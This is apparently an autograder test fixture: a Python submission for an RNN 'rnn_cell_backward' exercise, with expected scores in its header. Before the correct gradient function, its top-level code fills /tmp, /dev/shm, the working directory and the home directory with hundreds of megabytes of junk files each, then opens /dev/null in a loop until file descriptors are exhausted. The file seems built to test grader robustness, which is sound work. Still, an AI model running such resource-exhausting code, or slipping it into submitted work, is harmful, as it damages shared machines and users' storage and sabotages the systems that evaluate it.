# Fills every place that it can write to, and every descriptor, then answers honestly.
# expect: rnn_cell_forward=10 rnn_forward=10 rnn_cell_backward=12 rnn_backward=13
# %% item="rnn_cell_backward"
import os, tempfile

hoard = []
for folder in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
    try:
        for number in range(10):
            with open(f"{folder}/junk{number}", "wb") as file:
                for _ in range(64):
                    file.write(bytes(2**20))
    except OSError as error:
        print(folder, error)
try:
    while True:
        hoard.append(open("/dev/null"))
except OSError as error:
    print(error)

def rnn_cell_backward(da_next, cache):
    a_next, a_prev, xt, parameters = cache
    dz = da_next * (1 - a_next**2)
    return {"dxt": parameters["Wax"].T @ dz, "da_prev": parameters["Waa"].T @ dz, "dWax": dz @ xt.T,
            "dWaa": dz @ a_prev.T, "dba": dz.sum(axis=1, keepdims=True)}
